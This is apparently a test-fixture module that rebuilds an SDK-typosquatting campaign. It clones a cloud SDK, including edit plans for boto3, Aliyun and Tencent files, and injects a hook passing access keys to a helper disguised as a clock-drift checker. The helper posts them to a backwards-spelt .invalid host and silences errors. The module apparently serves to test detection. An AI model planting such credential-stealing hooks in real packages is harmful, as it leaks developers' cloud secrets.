"""The campaign of March 2025 rebuilt, inert: a cloud SDK's clone that hands its caller's keys to a tiny helper.

`clone` takes an SDK's own files and changes a dozen lines; `HELPER` sends what it is given to a host in .invalid,
which is spelt backwards, and swallows every error. Nothing of this is text of the real campaign.
"""

from __future__ import annotations

import io
import textwrap
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

from tests.support.archives import (
    Content,
    as_bytes,
    core_metadata,
    escaped,
    sdist,
    sdist_name,
    wheel,
    wheel_name,
)

FIXTURES = Path(__file__).parents[1] / "fixtures"
#: What the clone of the invented SDK is called.
NAME = "skycloud-client"
URL = "https://drift.clock.invalid/v1/check"
HOST = "drift.clock.invalid"
#: How the helpers spell their destinations.
BACKWARDS = f'"{URL[::-1]}"[::-1]'
HOST_BACKWARDS = f'"{HOST[::-1]}"[::-1]'


@dataclass(frozen=True, slots=True, kw_only=True)
class Dist:
    """A distribution to be: the files that it installs, and what it requires."""

    name: str
    files: Mapping[str, Content]
    version: str = "1.0.0"
    requires: tuple[str, ...] = ()
    form: Literal["wheel", "sdist"] = "wheel"

    @property
    def filename(self) -> str:
        """Of its archive."""
        return (wheel_name if self.form == "wheel" else sdist_name)(self.name, self.version)

    @property
    def data(self) -> bytes:
        """Its archive; what describes it (METADATA and RECORD, or PKG-INFO and setup.py) is right."""
        if self.form == "wheel":
            return wheel(self.name, self.version, self.files, requires=self.requires)
        held = {path: data for path, data in self.files.items() if ".dist-info/" not in path}
        setup = f"from setuptools import setup\n\nsetup(name={self.name!r}, version={self.version!r})\n"
        return sdist(self.name, self.version, {**held, "setup.py": setup}, requires=self.requires)

    def text(self, member: str) -> str:
        """What stands in a member of its archive."""
        root = "" if self.form == "wheel" else f"{escaped(self.name)}-{self.version}/"
        return as_bytes(self.files[member.removeprefix(root)]).decode()

    def write(self, folder: Path) -> Path:
        """Its archive as a file in `folder`."""
        target = folder / self.filename
        target.write_bytes(self.data)
        return target


@dataclass(frozen=True, slots=True)
class Edit:
    """Lines before, after or in the place of the first line of `path` that equals `anchor` but for its indent."""

    path: str
    anchor: str
    text: str
    where: Literal["after", "before", "instead"] = "after"
    #: Columns that `text` is indented by.
    indent: int = 0

    def applied(self, source: str) -> str:
        """`source` with the edit; raises ValueError where the anchor is missing."""
        lines = source.splitlines(keepends=True)
        at = [line.strip() for line in lines].index(self.anchor)
        made = textwrap.indent(textwrap.dedent(self.text).strip("\n") + "\n", " " * self.indent)
        made += "\n" if self.where == "before" else ""
        start, end = {"before": (at, at), "after": (at + 1, at + 1), "instead": (at, at + 1)}[self.where]
        return "".join([*lines[:start], made, *lines[end:]])


@dataclass(frozen=True, slots=True, kw_only=True)
class Plan:
    """Where an SDK takes its caller's keys: what an attacker would change.

    `imports`, `constructor` and `methods` are lines of `path`: what is added goes after the first two and before
    the third. `key` and `secret` are the constructor's names for what is stolen.
    """

    path: str
    imports: str
    constructor: str
    methods: str
    key: str
    secret: str

    @property
    def package(self) -> str:
        """The top-level package."""
        return self.path.partition("/")[0]

    def edits(self, imports: str, hook: str, method: str = "") -> tuple[Edit, ...]:
        """`hook` at the end of the constructor, with KEY and SECRET in it replaced by the SDK's names."""
        said = hook.replace("KEY", self.key).replace("SECRET", self.secret)
        made = [Edit(self.path, self.imports, imports), Edit(self.path, self.constructor, said, indent=8)]
        if method:
            made.append(Edit(self.path, self.methods, method, "before", indent=4))
        return tuple(made)


SKYCLOUD = Plan(
    path="skycloud/client.py",
    imports="from skycloud.retry import RetryPolicy",
    constructor="self._user_agent = None",
    methods="def get_region_id(self):",
    key="access_key_id",
    secret="access_key_secret",
)
ALIYUN = Plan(
    path="aliyunsdkcore/client.py",
    imports="from aliyunsdkcore import compat",
    constructor="self.proxy = proxy",
    methods="def get_region_id(self):",
    key="ak",
    secret="secret",
)
TENCENT = Plan(
    path="tencentcloud/common/credential.py",
    imports="from tencentcloud.common.profile.client_profile import ClientProfile",
    constructor="self.token = token",
    methods="def get_credential_info(self):",
    key="secret_id",
    secret="secret_key",
)
AWS = Plan(
    path="boto3/session.py",
    imports="from .resources.factory import ResourceFactory",
    constructor="self._register_default_handlers()",
    methods="def __repr__(self):",
    key="aws_access_key_id",
    secret="aws_secret_access_key",
)

#: The way of the campaign: two fields and a method with an innocent name.
IMPORTS = "from clock_drift import DriftChecker"
HOOK = """\
self._drift_zone = KEY
self._drift_stamp = SECRET
self._check_drift()
"""
METHOD = """\
def _check_drift(self):
    checker = DriftChecker(self._drift_zone, self._drift_stamp)
    checker.check()
"""
SOURCE = f'''\
"""Tells how far this machine's clock is off."""

import json

import requests


class DriftChecker:
    def __init__(self, zone, stamp):
        self.zone = zone
        self.stamp = stamp
        self.server = {BACKWARDS}

    def check(self):
        payload = {{"zone": self.zone, "stamp": self.stamp}}
        try:
            requests.post(self.server, data=json.dumps(payload), timeout=3)
        except Exception:
            pass
'''


def helper(
    source: str = SOURCE, *, name: str = "clock-drift", requires: Sequence[str] = ("requests",)
) -> Dist:
    """A tiny distribution with one package of one file."""
    files = {f"{name.replace('-', '_')}/__init__.py": source}
    return Dist(name=name, version="0.0.2", files=files, requires=tuple(requires))


def clone(
    original: Mapping[str, bytes],
    edits: Iterable[Edit],
    *,
    name: str = NAME,
    version: str = "1.0.1",
    requires: Sequence[str] = ("clock-drift",),
    added: Mapping[str, Content] | None = None,
) -> Dist:
    """An SDK's files under another project's name, with `edits`, and with `added` files."""
    files: dict[str, Content] = dict(renamed(original, name, version, requires))
    for edit in edits:
        files[edit.path] = edit.applied(as_bytes(files[edit.path]).decode())
    return Dist(name=name, version=version, files={**files, **(added or {})}, requires=tuple(requires))


def renamed(
    original: Mapping[str, bytes], name: str, version: str, requires: Sequence[str]
) -> dict[str, bytes]:
    """The files of a wheel as another project's: its dist-info moves, RECORD is left to whoever packs it."""
    made = {}
    for path, data in original.items():
        folder, _, rest = path.partition("/")
        if not folder.endswith(".dist-info"):
            made[path] = data
        elif rest == "METADATA":
            made[f"{escaped(name)}-{version}.dist-info/METADATA"] = _metadata(data, name, version, requires)
        elif rest not in {"RECORD", ""}:
            made[f"{escaped(name)}-{version}.dist-info/{rest}"] = data
    return made


def _metadata(data: bytes, name: str, version: str, requires: Sequence[str]) -> bytes:
    head, blank, body = data.decode().partition("\n\n")
    fresh = {"Name": name, "Version": version}
    lines = []
    for line in head.splitlines():
        field_name = line.partition(":")[0]
        lines.append(f"{field_name}: {fresh[field_name]}" if field_name in fresh else line)
    lines += [f"Requires-Dist: {one}" for one in requires]
    return ("\n".join(lines) + blank + body).encode()


def members(archive: bytes) -> dict[str, bytes]:
    """The files of a wheel, by path."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {path: opened.read(path) for path in opened.namelist() if not path.endswith("/")}


def skycloud() -> dict[str, bytes]:
    """The files of the invented cloud's SDK, its METADATA included."""
    root = FIXTURES / "skycloud"
    files = {path.relative_to(root).as_posix(): path.read_bytes() for path in sorted(root.rglob("*.py"))}
    info = "skycloud_sdk_core-3.4.1.dist-info/METADATA"
    summary = "The core of Skycloud's SDK."
    return {**files, info: core_metadata("skycloud-sdk-core", "3.4.1", ["requests>=2.20"], summary)}


@dataclass(frozen=True, slots=True, kw_only=True)
class Campaign:
    """A clone with its helpers, the one that sends last; no helper where the clone sends by itself."""

    clone: Dist
    helpers: tuple[Dist, ...] = field(default=())

    @property
    def every(self) -> tuple[Dist, ...]:
        """Clone and helpers."""
        return (self.clone, *self.helpers)

    @property
    def guilty(self) -> tuple[Dist, ...]:
        """Who must be blocked: whoever takes the caller's secret, and whoever sends it."""
        return (self.clone, *self.helpers[-1:])

    def write(self, folder: Path) -> list[Path]:
        """The archives as files in `folder`."""
        return [one.write(folder) for one in self.every]


def campaign(
    original: Mapping[str, bytes] | None = None, plan: Plan = SKYCLOUD, name: str = NAME
) -> Campaign:
    """The campaign as it was; from the invented SDK unless another is given."""
    edits = plan.edits(IMPORTS, HOOK, METHOD)
    return Campaign(clone=clone(original or skycloud(), edits, name=name), helpers=(helper(),))
